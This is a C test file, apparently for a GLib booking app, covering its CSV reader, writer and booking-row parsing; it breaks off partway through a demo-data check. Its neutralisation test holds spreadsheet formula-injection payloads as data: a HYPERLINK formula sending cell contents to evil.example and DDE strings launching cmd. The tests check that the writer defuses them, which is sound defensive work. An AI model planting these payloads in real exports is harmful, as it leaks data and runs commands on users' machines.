/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <gio/gio.h>
#include <string.h>

#include "tamu-booking-csv.h"
#include "tamu-csv.h"
#include "tamu-data.h"
#include "tamu-error.h"
#include "tamu-parse.h"
#include "tamu-policy.h"
#include "tamu-topics.h"

/* ---- helpers ---------------------------------------------------------- */

static GPtrArray *
parse_ok (const char *text,
          char       *out_separator)
{
  g_autoptr(GError) error = NULL;
  GPtrArray *records = tamu_csv_parse (text, -1, 0, out_separator, &error);

  g_assert_no_error (error);
  g_assert_nonnull (records);
  return records;
}

static const TamuCsvRecord *
record_at (GPtrArray *records,
           guint      i)
{
  g_assert_cmpuint (i, <, records->len);
  return g_ptr_array_index (records, i);
}

static void
assert_fields (const TamuCsvRecord *record,
               guint                line,
               const char * const  *expected)
{
  g_assert_cmpuint (record->line, ==, line);
  g_assert_cmpstrv (record->fields, expected);
}

static void
set_date (GDate *date,
          int    year,
          int    month,
          int    day)
{
  g_date_clear (date, 1);
  g_date_set_dmy (date, day, month, year);
}

static TamuBookingCsv *
booking_parse (const char  *text,
               const GDate *today,
               GError     **error)
{
  g_autoptr(GPtrArray) topics = tamu_topics_new_default ();

  return tamu_booking_csv_parse (text, strlen (text), topics, today, error);
}

/* Parses @text with today = 15 March 2024; the file as a whole must be readable. */
static TamuBookingCsv *
booking_parse_ok (const char *text)
{
  g_autoptr(GError) error = NULL;
  TamuBookingCsv *csv;
  GDate today;

  set_date (&today, 2024, 3, 15);
  csv = booking_parse (text, &today, &error);
  g_assert_no_error (error);
  g_assert_nonnull (csv);
  g_assert_cmpuint (csv->rows->len, ==, csv->line_numbers->len);
  return csv;
}

static TamuBooking *
row_at (TamuBookingCsv *csv,
        guint           i)
{
  g_assert_cmpuint (i, <, csv->rows->len);
  return g_ptr_array_index (csv->rows, i);
}

static void
assert_no_problems (TamuBookingCsv *csv)
{
  for (guint i = 0; i < csv->problems->len; i++)
    g_test_message ("unexpected problem: %s", (char *) g_ptr_array_index (csv->problems, i));
  g_assert_cmpuint (csv->problems->len, ==, 0);
}

static void
assert_date (const GDate *date,
             int          year,
             int          month,
             int          day)
{
  g_assert_true (g_date_valid (date));
  g_assert_cmpint (g_date_get_year (date), ==, year);
  g_assert_cmpint (g_date_get_month (date), ==, month);
  g_assert_cmpint (g_date_get_day (date), ==, day);
}

/* ---- the reader ------------------------------------------------------- */

static void
test_reader_quoting (void)
{
  g_autoptr(GPtrArray) records = NULL;
  char separator = 0;

  records = parse_ok ("a,\"b,c\",\"say \"\"hi\"\"\",,\"\"\n"
                      "plain \"quote\" inside,x\n",
                      &separator);
  g_assert_cmpint (separator, ==, ',');
  g_assert_cmpuint (records->len, ==, 2);
  assert_fields (record_at (records, 0), 1,
                 (const char *[]) { "a", "b,c", "say \"hi\"", "", "", NULL });
  /* A quote inside an unquoted field is text, as in Excel. */
  assert_fields (record_at (records, 1), 2,
                 (const char *[]) { "plain \"quote\" inside", "x", NULL });
}

static void
test_reader_bom (void)
{
  g_autoptr(GPtrArray) records = NULL;

  records = parse_ok (TAMU_CSV_BOM "Tanggal,Daerah\n1 Maret 2024,Kab. Bandung\n", NULL);
  g_assert_cmpuint (records->len, ==, 2);
  /* The BOM is not part of the first header name. */
  assert_fields (record_at (records, 0), 1, (const char *[]) { "Tanggal", "Daerah", NULL });
  assert_fields (record_at (records, 1), 2, (const char *[]) { "1 Maret 2024", "Kab. Bandung", NULL });
}

static void
test_reader_semicolon (void)
{
  g_autoptr(GPtrArray) records = NULL;
  char separator = 0;

  /* Excel with Indonesian settings: ';' separates, ',' is text. */
  records = parse_ok ("Tanggal;Daerah;Topik\r\n"
                      "20 Maret 2024;Kab. Jepara;DAU, DAK NF\r\n"
                      "20 Maret 2024;\"Kab. X; Y\";TKD\r\n",
                      &separator);
  g_assert_cmpint (separator, ==, ';');
  g_assert_cmpuint (records->len, ==, 3);
  assert_fields (record_at (records, 1), 2,
                 (const char *[]) { "20 Maret 2024", "Kab. Jepara", "DAU, DAK NF", NULL });
  assert_fields (record_at (records, 2), 3,
                 (const char *[]) { "20 Maret 2024", "Kab. X; Y", "TKD", NULL });

  /* Excel's "sep=" line names the separator and is no record; lines still count. */
  {
    g_autoptr(GPtrArray) hinted = NULL;

    separator = 0;
    hinted = parse_ok (TAMU_CSV_BOM "sep=;\r\nDaerah;Topik,Catatan\r\nKab. A;TKD,DAU\r\n", &separator);
    g_assert_cmpint (separator, ==, ';');
    g_assert_cmpuint (hinted->len, ==, 2);
    assert_fields (record_at (hinted, 0), 2, (const char *[]) { "Daerah", "Topik,Catatan", NULL });
    assert_fields (record_at (hinted, 1), 3, (const char *[]) { "Kab. A", "TKD,DAU", NULL });
  }

  /* A header with more commas than semicolons is a comma file. */
  g_assert_cmpint (tamu_csv_detect_separator ("a;b,c,d\n1;2;3;4;5", 17), ==, ',');
  /* Separators inside quotes do not count. */
  g_assert_cmpint (tamu_csv_detect_separator ("\"a,b,c\";d;e", 11), ==, ';');
}

static void
test_reader_line_ends (void)
{
  g_autoptr(GPtrArray) crlf = parse_ok ("a,b\r\nc,d\r\n\r\ne,f", NULL);
  g_autoptr(GPtrArray) cr = parse_ok ("a,b\rc,d\r", NULL);

  g_assert_cmpuint (crlf->len, ==, 4);
  assert_fields (record_at (crlf, 0), 1, (const char *[]) { "a", "b", NULL });
  assert_fields (record_at (crlf, 1), 2, (const char *[]) { "c", "d", NULL });
  /* A blank line is a record of one empty field, which readers skip. */
  assert_fields (record_at (crlf, 2), 3, (const char *[]) { "", NULL });
  g_assert_true (tamu_csv_record_is_blank (record_at (crlf, 2)));
  g_assert_false (tamu_csv_record_is_blank (record_at (crlf, 1)));
  /* The last line needs no line end. */
  assert_fields (record_at (crlf, 3), 4, (const char *[]) { "e", "f", NULL });

  g_assert_cmpuint (cr->len, ==, 2);
  assert_fields (record_at (cr, 1), 2, (const char *[]) { "c", "d", NULL });
}

static void
test_reader_embedded_newlines (void)
{
  g_autoptr(GPtrArray) records = NULL;

  records = parse_ok ("date,notes\r\n"
                      "2024-03-01,\"first line\r\nsecond line\nthird\"\r\n"
                      "2024-03-04,after\r\n",
                      NULL);
  g_assert_cmpuint (records->len, ==, 3);
  /* Breaks inside a cell come out as LF; the next record starts on line 5. */
  assert_fields (record_at (records, 1), 2,
                 (const char *[]) { "2024-03-01", "first line\nsecond line\nthird", NULL });
  assert_fields (record_at (records, 2), 5, (const char *[]) { "2024-03-04", "after", NULL });
}

static void
test_reader_bad_utf8 (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) records = NULL;
  /* Line 3 holds "Kab. Bandung" in Windows-1252 with a stray 0xE9. */
  const char text[] = "a,b\r\nc,d\r\nKab. Band\xe9ng,3\r\n";

  records = tamu_csv_parse (text, sizeof text - 1, 0, NULL, &error);
  g_assert_null (records);
  g_assert_error (error, TAMU_ERROR, TAMU_ERROR_INVALID);
  g_assert_true (g_str_has_prefix (error->message, "line 3: encoding:"));
  g_clear_error (&error);

  /* A NUL byte is not text either. */
  records = tamu_csv_parse ("a,b\n\0,c\n", 8, 0, NULL, &error);
  g_assert_null (records);
  g_assert_error (error, TAMU_ERROR, TAMU_ERROR_INVALID);
  g_assert_true (g_str_has_prefix (error->message, "line 2: encoding:"));
}

static void
test_reader_unterminated_quote (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) records = NULL;

  records = tamu_csv_parse ("a,b\nc,d\ne,\"never closed\nf,g\nh,i\n", -1, 0, NULL, &error);
  g_assert_null (records);
  g_assert_error (error, TAMU_ERROR, TAMU_ERROR_INVALID);
  /* The line where the quote opened, not the end of the file. */
  g_assert_true (g_str_has_prefix (error->message, "line 3: quote:"));
  g_clear_error (&error);

  records = tamu_csv_parse ("a,b\n\"x\"y,z\n", -1, 0, NULL, &error);
  g_assert_null (records);
  g_assert_error (error, TAMU_ERROR, TAMU_ERROR_INVALID);
  g_assert_true (g_str_has_prefix (error->message, "line 2: quote:"));
}

static void
test_reader_empty (void)
{
  g_autoptr(GPtrArray) empty = parse_ok ("", NULL);
  g_autoptr(GPtrArray) bom = parse_ok (TAMU_CSV_BOM, NULL);
  g_autoptr(GPtrArray) trailing = parse_ok ("a,b,\n", NULL);

  g_assert_cmpuint (empty->len, ==, 0);
  g_assert_cmpuint (bom->len, ==, 0);
  g_assert_cmpuint (trailing->len, ==, 1);
  assert_fields (record_at (trailing, 0), 1, (const char *[]) { "a", "b", "", NULL });
}

/* ---- the writer ------------------------------------------------------- */

static char *
write_cell (const char *text,
            char        separator)
{
  GString *out = g_string_new (NULL);

  tamu_csv_append_field (out, text, separator);
  return g_string_free (out, FALSE);
}

static void
assert_cell (const char *text,
             const char *expected)
{
  g_autofree char *cell = write_cell (text, ',');

  g_assert_cmpstr (cell, ==, expected);
}

static void
test_writer_quoting (void)
{
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GPtrArray) records = NULL;
  const char *row[] = { "plain", "a,b", "a;b", "say \"hi\"", "two\nlines", " padded ", NULL, "" };

  assert_cell ("plain", "plain");
  assert_cell ("a,b", "\"a,b\"");
  /* Quoted for a spreadsheet whose list separator is ';' as well. */
  assert_cell ("a;b", "\"a;b\"");
  assert_cell ("say \"hi\"", "\"say \"\"hi\"\"\"");
  assert_cell ("two\nlines", "\"two\nlines\"");
  assert_cell (" padded ", "\" padded \"");
  assert_cell (NULL, "");
  assert_cell ("Rp 1.500.000 – “lunas”", "Rp 1.500.000 – “lunas”");

  /* What the writer writes, the reader reads back unchanged. */
  tamu_csv_append_row (out, row, G_N_ELEMENTS (row), ';');
  g_assert_true (g_str_has_suffix (out->str, "\r\n"));
  records = parse_ok (out->str, NULL);
  g_assert_cmpuint (records->len, ==, 1);
  assert_fields (record_at (records, 0), 1,
                 (const char *[]) { "plain", "a,b", "a;b", "say \"hi\"", "two\nlines",
                                    " padded ", "", "", NULL });
}

static void
test_writer_neutralise (void)
{
  static const struct
  {
    const char *value;
    const char *cell;
    const char *read_back; /* NULL: the value itself */
  } cases[] = {
    { "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
      "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\"" },
    { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
    { "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
    { "@SUM(1+1)", "'@SUM(1+1)" },
    { "\t=1+1", "'\t=1+1" },
    /* Read back, a CR inside a cell is a line break like any other. */
    { "\r=1+1", "\"'\r=1+1\"", "'\n=1+1" },
    { "  =1+1", "'  =1+1" },
    /* Phone numbers keep every digit and the plus, as text. */
    { "+62 812-3456-7890", "'+62 812-3456-7890" },
    { "+6281234567890", "'+6281234567890" },
    /* Plain negative numbers and a lone dash are not formulas. */
    { "-5", "-5" },
    { "-2,5", "\"-2,5\"" },
    { "-", "-" },
    { "0812-3456-7890", "0812-3456-7890" },
    { "a=b", "a=b" },
    /* Already apostrophed text gets one more, so the reader gives it back. */
    { "'=x", "''=x" },
    { "''+1", "'''+1" },
    { "'plain", "'plain" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *cell = write_cell (cases[i].value, ',');
      g_autofree char *row = g_strconcat (cell, "\r\n", NULL);
      g_autoptr(GPtrArray) records = NULL;
      const TamuCsvRecord *record;

      g_test_message ("value %s", cases[i].value);
      g_assert_cmpstr (cell, ==, cases[i].cell);

      /* Read back and un-neutralised, the value is exactly what was written. */
      records = parse_ok (row, NULL);
      record = record_at (records, 0);
      g_assert_cmpstr (tamu_csv_unneutralise (record->fields[0]), ==,
                       cases[i].read_back != NULL ? cases[i].read_back : cases[i].value);
    }
}

/* ---- the booking mapping ---------------------------------------------- */

static void
test_booking_header_aliases (void)
{
  g_autoptr(TamuBookingCsv) csv = NULL;
  const char * const *ignored;
  TamuBooking *b;

  /* Indonesian headers in another order, odd case and spacing; ';' file. */
  csv = booking_parse_ok ("No.;TANGGAL;Jam;Jenis;  Daerah ;topik;Jumlah Tamu;Tamu Hadir;"
                          "Ruang;Narahubung;No. HP;E-mail;Tiket;Agen;Catatan;Durasi;SKPD\n"
                          "1;1 Maret 2024;09:00;Tatap Muka;Kab. Bandung;TKD;9;8;"
                          "Ruang Konsultasi 1;Budi;'+62 812-3456-7890;budi@bandungkab.go.id;"
                          "RSV-2024-0152;Linna;Datang lebih awal;90;BPKAD\n");
  assert_no_problems (csv);
  g_assert_cmpint (tamu_booking_csv_get_separator (csv), ==, ';');
  g_assert_cmpuint (csv->rows->len, ==, 1);
  g_assert_cmpuint (g_array_index (csv->line_numbers, guint, 0), ==, 2);

  b = row_at (csv, 0);
  g_assert_cmpint (b->type, ==, TAMU_BOOKING_TATAP_MUKA);
  assert_date (&b->date, 2024, 3, 1);
  g_assert_cmpint (b->start, ==, 9 * 60);
  g_assert_cmpint (b->duration, ==, 90);
  g_assert_cmpstr (b->daerah, ==, "Kab. Bandung");
  g_assert_cmpstrv (b->topics, ((const char *[]) { "TKD", NULL }));
  g_assert_cmpint (b->guests, ==, 9);
  g_assert_cmpint (b->actual_guests, ==, 8);
  g_assert_cmpint (b->status, ==, TAMU_STATUS_DONE);
  g_assert_cmpstr (b->room, ==, "Ruang Konsultasi 1");
  g_assert_cmpstr (b->contact, ==, "Budi");
  /* The apostrophe Excel-safe exports put before a phone number is dropped. */
  g_assert_cmpstr (b->phone, ==, "+62 812-3456-7890");
  g_assert_cmpstr (b->email, ==, "budi@bandungkab.go.id");
  g_assert_cmpstr (b->ticket, ==, "RSV-2024-0152");
  g_assert_cmpstr (b->pic, ==, "Linna");
  g_assert_cmpstr (b->notes, ==, "Datang lebih awal");
  g_assert_cmpstr (b->instansi, ==, "BPKAD");

  ignored = tamu_booking_csv_get_ignored_columns (csv);
  g_assert_cmpstrv (ignored, ((const char *[]) { "No.", NULL }));
}

static void
test_booking_english_headers (void)
{
  g_autoptr(TamuBookingCsv) csv = NULL;
  TamuBooking *b;

  csv = booking_parse_ok ("Type,Date,Time,Duration,Daerah,Topic,Guests,Actual_Guests,Status,"
                          "Room,Link,Override_Reason,Cancel_Reason\n"
                          "vidcon,2024-03-25,10:00,60,Kota Tomohon,Pembiayaan,,,cancelled,,"
                          "https://teams.microsoft.com/l/meetup-join/x,,Rescheduled by the pemda\n");
  assert_no_problems (csv);
  b = row_at (csv, 0);
  g_assert_cmpint (b->type, ==, TAMU_BOOKING_VIDCON);
  g_assert_cmpint (b->guests, ==, 0);
  g_assert_cmpint (b->actual_guests, ==, -1);
  g_assert_cmpint (b->status, ==, TAMU_STATUS_CANCELLED);
  g_assert_cmpstr (b->link, ==, "https://teams.microsoft.com/l/meetup-join/x");
  g_assert_cmpstr (b->cancel_reason, ==, "Rescheduled by the pemda");
  g_assert_null (b->room);
  g_assert_null (b->override_reason);
}

static void
test_booking_missing_columns (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TamuBookingCsv) csv = NULL;

  csv = booking_parse ("\n\nTanggal,Daerah,Jumlah Tamu\n1 Maret 2024,Kab. Bandung,9\n", NULL, &error);
  g_assert_null (csv);
  g_assert_error (error, TAMU_ERROR, TAMU_ERROR_INVALID);
  /* One error naming every missing column, on the header's line. */
  g_assert_true (g_str_has_prefix (error->message, "line 3: header:"));
  g_assert_nonnull (strstr (error->message, "type, topic"));
  g_clear_error (&error);

  csv = booking_parse ("Tanggal,Jenis,Daerah,Topik,date\n", NULL, &error);
  g_assert_null (csv);
  g_assert_error (error, TAMU_ERROR, TAMU_ERROR_INVALID);
  g_assert_true (g_str_has_prefix (error->message, "line 1: header:"));
  g_assert_nonnull (strstr (error->message, "“Tanggal” and “date”"));
  g_clear_error (&error);

  csv = booking_parse (" \r\n,,\r\n", NULL, &error);
  g_assert_null (csv);
  g_assert_error (error, TAMU_ERROR, TAMU_ERROR_INVALID);
  g_assert_true (g_str_has_prefix (error->message, "header:"));
  g_clear_error (&error);

  csv = booking_parse ("type,date,daerah,topic,guests\ntatap-muka,2024-03-01,Kab. \xff,TKD,3\n",
                       NULL, &error);
  g_assert_null (csv);
  g_assert_error (error, TAMU_ERROR, TAMU_ERROR_INVALID);
  g_assert_true (g_str_has_prefix (error->message, "line 2: encoding:"));
}

static gboolean
has_problem (TamuBookingCsv *csv,
             const char     *prefix)
{
  for (guint i = 0; i < csv->problems->len; i++)
    if (g_str_has_prefix (g_ptr_array_index (csv->problems, i), prefix))
      return TRUE;
  return FALSE;
}

static void
test_booking_problems (void)
{
  g_autoptr(TamuBookingCsv) csv = NULL;
  /* Every row but lines 2 and 24 has something wrong; line 4 spans lines 4–5. */
  const char *text =
    "type,date,time,duration,daerah,topic,guests,actual_guests,status,room,email,phone,link,cancel_reason\n"
    /*  2 */ "tatap-muka,2024-03-20,09:00,60,Kab. Jepara,\"DAU, DAK NF\",2,,,,,,,\n"
    /*  3 */ "tatap-muka,2024-02-30,09:00,60,Kab. A,TKD,abc,,,,,,,\n"
    /*  4 */ "kunjungan dinas,2024-03-20,09:00,60,\"Kab.\nB\",TKD,2,,,,,,,\n"
    /*  6 */ "tatap-muka,2024-03-20,,60,Kab. C,TKD,2,,,,,,,\n"
    /*  7 */ "tatap-muka,2024-03-20,09:00,60,Kab. D,XYZ,2,,,,,,,\n"
    /*  8 */ "tatap-muka,2024-03-20,09:00,60,Kab. E,TKD,2,,pending-ish,,,,,\n"
    /*  9 */ "tatap-muka,2024-03-20,09:00,60,Kab. F,TKD,2,,,,budi at example,,,\n"
    /* 10 */ "vidcon,2024-03-20,09:00,60,Kab. G,TKD,,,,,,,teams.microsoft.com/x,\n"
    /* 11 */ "tatap-muka,2024-03-20,09:00,60,Kab. H,TKD,2,3,,,,,,\n"
    /* 12 */ "vidcon,2024-03-20,09:00,60,Kab. I,TKD,,,,Ruang Konsultasi 1,,,,\n"
    /* 13 */ "tatap-muka,2024-03-20,09:00,0,Kab. J,TKD,2,,,,,,,\n"
    /* 14 */ "tatap-muka,2024-03-20,09:00,60,Kab. K,TKD,2,,,,,halo,,\n"
    /* 15 */ "tatap-muka,2024-03-20,09:00,60,Kab. L,TKD,2,,confirmed,,,,,no reason\n"
    /* 16 */ "tatap-muka,2024-03-20,25:61,60,Kab. M,TKD,2,,,,,,,\n"
    /* 17 */ "tatap-muka,2024-03-20,09:00,60,,,2,,,,,,,\n"
    /* 18 */ "tatap-muka,2024-03-20,09:00,60,Kab. N,TKD,,,,,,,,\n"
    /* 19 */ ",,09:00,60,Kab. O,TKD,2,,,,,,,\n"
    /* 20 */ "tatap-muka,2024-03-20,09:00,60,Kab. P,TKD,2,,,,,,,,surplus\n"
    /* 21 */ "tatap-muka,2024-04-02,09:00,60,Kab. Q,TKD,2,2,sudah hadir,,,,,\n"
    /* 22 */ "tatap-muka,2024-03-20,09:00-10:30,60,Kab. R,TKD,2,,,,,,,\n"
    /* 23 */ "tatap-muka,2024-03-01,,60,Kab. S,TKD,2,5,no-show,,,,,\n"
    /* 24 */ "vidcon,20 Maret 2024,10:00,60,Kota Tomohon,Pembiayaan,,,,,,,https://teams.microsoft.com/l/x,\n";
  static const char * const expected[] = {
    "line 3: date: ",
    "line 3: guests: ",
    "line 4: type: ",
    "line 4: daerah: ", /* a line break inside a one-line field (tamu-fields.h) */
    "line 6: time: required for a new booking",
    "line 7: topic: ",
    "line 8: status: ",
    "line 9: email: ",
    "line 10: link: ",
    "line 11: actual_guests: ",
    "line 12: room: ",
    "line 13: duration: ",
    "line 14: phone: ",
    "line 15: cancel_reason: ",
    "line 16: time: ",
    "line 17: daerah: ",
    "line 17: topic: ",
    "line 18: guests: ",
    "line 19: type: ",
    "line 19: date: ",
    "line 20: columns: ",
    "line 21: status: ",
    "line 22: duration: ",
    "line 23: actual_guests: ",
  };

  csv = booking_parse_ok (text);

  for (guint i = 0; i < csv->problems->len; i++)
    g_test_message ("%s", (char *) g_ptr_array_index (csv->problems, i));

  /* Every problem of every row, in file order, each naming line and field. */
  g_assert_cmpuint (csv->problems->len, ==, G_N_ELEMENTS (expected));
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    {
      const char *problem = g_ptr_array_index (csv->problems, i);

      if (!g_str_has_prefix (problem, expected[i]))
        g_error ("problem %u is “%s”, expected it to start with “%s”", i, problem, expected[i]);
    }
  g_assert_true (has_problem (csv, "line 3: date: “2024-02-30” is not a date"));
  g_assert_true (has_problem (csv, "line 7: topic: “XYZ” is not a known topic"));

  /* Only the good rows come through, with the lines they start on. */
  g_assert_cmpuint (csv->rows->len, ==, 2);
  g_assert_cmpuint (g_array_index (csv->line_numbers, guint, 0), ==, 2);
  g_assert_cmpuint (g_array_index (csv->line_numbers, guint, 1), ==, 24);
  g_assert_cmpstrv (row_at (csv, 0)->topics, ((const char *[]) { "DAU", "DAK Non Fisik", NULL }));
  g_assert_cmpstr (row_at (csv, 1)->daerah, ==, "Kota Tomohon");
}

static void
test_booking_status_defaults (void)
{
  g_autoptr(TamuBookingCsv) csv = NULL;

  /* Today is 15 March 2024. */
  csv = booking_parse_ok ("jenis,tanggal,jam,daerah,topik,jumlah tamu,tamu hadir,status\n"
                          "Tatap Muka,1 Maret 2024,,Kab. Bandung,TKD,9,,\n"          /* past: done */
                          "Tatap Muka,2024-03-20,10:00,Kab. Jepara,DAU,2,,\n"        /* ahead: requested */
                          "Tatap Muka,15 Maret 2024,13:00,Kota Ternate,DBH,6,,\n"    /* today: requested */
                          "Tatap Muka,1 Maret 2024,09:00,Kab. Boyolali,DAU,2,3,selesai\n"
                          "vicon,4 Maret 2024,,Kab.. Lamongan,JF AKPD,,,\n"          /* past vidcon: done */
                          "Tatap Muka,5 Maret 2024,,Bank Kalbar,TKD,3,,batal\n"
                          "Tatap Muka,5 Maret 2024,,Kab. Konawe,TKD,4,,tidak hadir\n"
                          "Tatap Muka,2024-03-22,09:00,Prov. Jawa Barat,PDRD,4,,dikonfirmasi\n"
                          /* A record of what happened: its date is not checked against today. */
                          "Tatap Muka,28 Maret 2024,,Kab. Seruyan,TKD,3,,done\n");
  assert_no_problems (csv);
  g_assert_cmpuint (csv->rows->len, ==, 9);

  g_assert_cmpint (row_at (csv, 0)->status, ==, TAMU_STATUS_DONE);
  g_assert_cmpint (row_at (csv, 0)->actual_guests, ==, 9);
  g_assert_cmpint (row_at (csv, 0)->start, ==, TAMU_TIME_UNKNOWN);

  g_assert_cmpint (row_at (csv, 1)->status, ==, TAMU_STATUS_REQUESTED);
  g_assert_cmpint (row_at (csv, 1)->actual_guests, ==, -1);
  g_assert_cmpint (row_at (csv, 1)->start, ==, 10 * 60);

  g_assert_cmpint (row_at (csv, 2)->status, ==, TAMU_STATUS_REQUESTED);
  g_assert_cmpint (row_at (csv, 2)->actual_guests, ==, -1);

  g_assert_cmpint (row_at (csv, 3)->status, ==, TAMU_STATUS_DONE);
  g_assert_cmpint (row_at (csv, 3)->actual_guests, ==, 3);

  g_assert_cmpint (row_at (csv, 4)->type, ==, TAMU_BOOKING_VIDCON);
  g_assert_cmpint (row_at (csv, 4)->status, ==, TAMU_STATUS_DONE);
  g_assert_cmpint (row_at (csv, 4)->actual_guests, ==, 0);
  g_assert_cmpstr (row_at (csv, 4)->daerah, ==, "Kab.. Lamongan");

  g_assert_cmpint (row_at (csv, 5)->status, ==, TAMU_STATUS_CANCELLED);
  g_assert_cmpint (row_at (csv, 5)->actual_guests, ==, -1);
  g_assert_cmpint (row_at (csv, 6)->status, ==, TAMU_STATUS_NO_SHOW);
  g_assert_cmpint (row_at (csv, 7)->status, ==, TAMU_STATUS_CONFIRMED);
  g_assert_cmpint (row_at (csv, 8)->status, ==, TAMU_STATUS_DONE);
  g_assert_cmpint (row_at (csv, 8)->actual_guests, ==, 3);
}

static void
test_booking_values (void)
{
  g_autoptr(TamuBookingCsv) csv = NULL;
  static const struct
  {
    TamuBookingType type;
    int             year, month, day;
    int             start, duration;
  } expected[] = {
    { TAMU_BOOKING_TATAP_MUKA, 2024, 3, 20, 9 * 60, 60 },
    { TAMU_BOOKING_VIDCON, 2024, 3, 1, 9 * 60, 0 },
    { TAMU_BOOKING_TATAP_MUKA, 2024, 3, 20, 9 * 60, 90 },
    { TAMU_BOOKING_VIDCON, 2024, 3, 20, 13 * 60 + 30, 60 },
    { TAMU_BOOKING_VIDCON, 2024, 3, 20, 14 * 60, 75 },
    { TAMU_BOOKING_VIDCON, 2024, 3, 20, 10 * 60, 0 },
    { TAMU_BOOKING_TATAP_MUKA, 2024, 3, 20, 13 * 60, 0 },
    { TAMU_BOOKING_TATAP_MUKA, 2024, 3, 22, 13 * 60, 0 },
  };

  csv = booking_parse_ok ("type,date,time,duration,daerah,topic,guests\n"
                          "tatap-muka,20 Maret 2024,9.00,60 menit,Kab. A,TKD,2\n"
                          "vidcon,01/03/2024,09:00:00,,Kab. B,DAK NF,\n"
                          "Tatap Muka,2024-03-20,09.00 – 10.30,,Kab. C,tkd,2\n"
                          "Video Conference,20 Mar 2024,13:30 WIB,60,Kab. D,dau,\n"
                          "vicon,20.03.2024,14:00-15:15,75,Kab. E,Dana Bagi Hasil,\n"
                          "VIDCON,20 March 2024,10:00,,Kab. F,Ev. Keuda,\n"
                          "tatap-muka,\"Rabu, 20 Maret 2024\",13:00,,Kab. G,TKD,1\n"
                          "tatap-muka,22-03-2024,13:00,,Kab. H,TKD,1\n");
  assert_no_problems (csv);
  g_assert_cmpuint (csv->rows->len, ==, G_N_ELEMENTS (expected));
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    {
      TamuBooking *b = row_at (csv, i);

      g_assert_cmpint (b->type, ==, expected[i].type);
      assert_date (&b->date, expected[i].year, expected[i].month, expected[i].day);
      g_assert_cmpint (b->start, ==, expected[i].start);
      g_assert_cmpint (b->duration, ==, expected[i].duration);
    }
  g_assert_cmpstrv (row_at (csv, 4)->topics, ((const char *[]) { "DBH", NULL }));
  g_assert_cmpstrv (row_at (csv, 5)->topics, ((const char *[]) { "Evaluasi Keuda", NULL }));
}

static void
test_booking_bad_dates (void)
{
  g_autoptr(TamuBookingCsv) csv = NULL;

  csv = booking_parse_ok ("type,date,time,daerah,topic,guests\n"
                          "tatap-muka,31/02/2024,09:00,Kab. A,TKD,2\n"
                          "tatap-muka,30 Februari 2024,09:00,Kab. A,TKD,2\n"
                          "tatap-muka,1 Maretz 2024,09:00,Kab. A,TKD,2\n"
                          "tatap-muka,,09:00,Kab. A,TKD,2\n"
                          "tatap-muka,\"Kamis, 20 Maret 2024\",09:00,Kab. A,TKD,2\n"
                          "tatap-muka,31.02.2024,09:00,Kab. A,TKD,2\n");
  g_assert_cmpuint (csv->rows->len, ==, 0);
  g_assert_cmpuint (csv->problems->len, ==, 6);
  g_assert_true (has_problem (csv, "line 2: date: “31/02/2024”"));
  g_assert_true (has_problem (csv, "line 3: date: “30 Februari 2024”"));
  g_assert_true (has_problem (csv, "line 4: date: “1 Maretz 2024”"));
  g_assert_true (has_problem (csv, "line 5: date: required"));
  /* A weekday must be the date's own. */
  g_assert_true (has_problem (csv, "line 6: date: “Kamis, 20 Maret 2024” names the wrong weekday"));
  g_assert_true (has_problem (csv, "line 7: date: “31.02.2024”"));
}

/* The demo month ships as a file and inside the program (GResource). */
static GBytes *
load_demo (void)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "..", "data", "demo-2024-03.csv", NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) resource = NULL;
  char *contents = NULL;
  gsize length = 0;

  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);

  /* What the app's "load the demo month" reads. */
  resource = tamu_data_load ("demo-2024-03.csv");
  g_assert_nonnull (resource);
  g_assert_cmpmem (g_bytes_get_data (resource, NULL), g_bytes_get_size (resource),
                   contents, length);

  return g_bytes_new_take (contents, length);
}

static void
check_demo (const GDate *today)
{
  g_autoptr(GBytes) bytes = load_demo ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) topics = tamu_topics_new_default ();
  g_autoptr(TamuBookingCsv) csv = NULL;
  g_autoptr(TamuPolicy) policy = tamu_policy_new_default ();
  guint tatap_muka = 0, vidcon = 0, on_20th = 0, banjar_21st = 0;
  gsize length;
  const char *data = g_bytes_get_data (bytes, &length);

  csv = tamu_booking_csv_parse (data, length, topics, today, &error);
  g_assert_no_error (error);
  assert_no_problems (csv);
  g_assert_cmpuint (csv->rows->len, ==, 33);
  g_assert_cmpstrv (tamu_booking_csv_get_ignored_columns (csv), ((const char *[]) { NULL }));

  for (guint i = 0; i < csv->rows->len; i++)
    {
      TamuBooking *b = row_at (csv, i);
      int break_start, break_end;

      g_assert_cmpint (g_date_get_year (&b->date), ==, 2024);
      g_assert_cmpint (g_date_get_month (&b->date), ==, 3);
      g_assert_cmpint (g_date_get_weekday (&b->date), <=, G_DATE_FRIDAY);
      g_assert_cmpint (b->status, ==, TAMU_STATUS_DONE);
      g_assert_cmpint (b->actual_guests, ==, b->guests);
      g_assert_cmpuint (g_strv_length (b->topics), >=, 1);
      g_assert_nonnull (b->pic);
      g_assert_nonnull (b->ticket);

      /* Realistic: within service hours, outside the break, 60–90 minutes. */
      g_assert_cmpint (b->duration, >=, 60);
      g_assert_cmpint (b->duration, <=, 90);
      g_assert_cmpint (b->start, >=, policy->open);
      g_assert_cmpint (b->start + b->duration, <=, policy->close);
      tamu_policy_get_break (policy, &b->date, &break_start, &break_end);
      g_assert_true (b->start + b->duration <= break_start || b->start >= break_end);

      if (b->type == TAMU_BOOKING_TATAP_MUKA)
        {
          tatap_muka++;
          g_assert_cmpint (b->guests, >, 0);
          g_assert_true (tamu_policy_has_room (policy, b->room));
          g_assert_null (b->link);
          /* No two visits in one room at once. */
          for (guint j = 0; j < i; j++)
            {
